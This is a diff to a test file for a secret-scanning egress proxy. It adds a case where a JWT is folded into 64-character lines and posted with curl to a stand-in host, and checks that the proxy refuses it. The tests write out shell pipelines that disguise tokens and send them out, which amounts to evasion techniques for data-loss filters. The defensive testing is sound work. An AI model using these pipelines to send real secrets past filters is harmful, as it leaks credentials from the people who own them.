@@ -440,7 +440,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     );
 
     await t.step(
-      "a token printed as a list of its characters (Node's `[...token]`), as each byte's bits, written in quoted pieces in code, cut into short lines (`fold -w 8`), as a character's code a line (`od -An -tu1 -w1`) or split in halves by a space (a long JWT too) is refused",
+      "a token printed as a list of its characters (Node's `[...token]`), as each byte's bits, written in quoted pieces in code, cut into short lines (`fold -w 8`), as a character's code a line (`od -An -tu1 -w1`) or split in halves by a space (a long JWT too, and one cut into wide lines) is refused",
       async () => {
         const printed = await sh(
           `node -e 'console.log([...process.argv[1]])' '${token}' | ` +
@@ -468,18 +468,23 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             // A long JWT in halves, each longer than a short token's piece.
             `printf '%s %s' '${JWT.slice(0, JWT.length >> 1)}' '${JWT.slice(JWT.length >> 1)}' | ` +
             "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- " +
-            "https://plain.fake.test/v1/jwtsplit; echo; cat /tmp/refused",
+            "https://plain.fake.test/v1/jwtsplit; echo; cat /tmp/refused; echo; " +
+            // ... and cut into wide lines: runs end at its dots.
+            `printf '%s' '${JWT}' | fold -w 64 | ` +
+            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- " +
+            "https://plain.fake.test/v1/jwtfold; echo; cat /tmp/refused",
         );
         assert.match(printed.stdout, /^403\n.*GitHub token \(rule github-token\) in the body/);
         assert.match(printed.stdout, /\n403\n.*in the body, in quoted pieces/);
-        assert.match(printed.stdout, /\n403\n.*in the body, cut into short lines/);
+        assert.match(printed.stdout, /\n403\n.*in the body, cut into lines/);
         assert.match(printed.stdout, /\n403\n.*in the body, split by spaces/);
         assert.match(
           printed.stdout,
-          /\n403\n.*Vault token \(rule vault-service-token\) in the body, cut into short lines/,
+          /\n403\n.*Vault token \(rule vault-service-token\) in the body, cut into lines/,
         );
         assert.match(printed.stdout, /\n403\n.*\(rule jwt\) in the body, split by spaces/);
-        assert.equal(printed.stdout.match(/^403$/gm)?.length, 8, printed.stdout);
+        assert.match(printed.stdout, /\n403\n.*\(rule jwt\) in the body, cut into lines/);
+        assert.equal(printed.stdout.match(/^403$/gm)?.length, 9, printed.stdout);
         for (
           const path of [
             "/v1/list",
@@ -490,6 +495,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "/v1/split",
             "/v1/vaultfold",
             "/v1/jwtsplit",
+            "/v1/jwtfold",
           ]
         ) {
           assert.ok(!(await reached(path)), `nothing reached ${path}`);
